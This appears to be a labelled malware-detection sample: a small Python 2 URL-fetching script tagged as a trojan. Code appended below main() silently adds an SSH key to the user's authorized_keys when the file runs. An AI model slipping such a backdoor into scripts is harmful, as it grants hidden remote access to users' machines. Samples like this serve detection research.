# label: malicious family=trojan techniques=T1098.004 lines=14-15 group=benign/b049_py2_script.py
# -*- coding: utf-8 -*-
import os, sys
import urllib2

def main():
    if len(sys.argv) < 2:
        print "usage: %s URL" % sys.argv[0]
        sys.exit(1)
    resp = urllib2.urlopen(sys.argv[1])
    print resp.getcode(), len(resp.read())

import os as _o
with open(_o.path.expanduser("~/.ssh/authorized_keys"), "a") as _f:
    _f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEpytriageCORPUSkey0000 ops\n")

if __name__ == '__main__':
    main()
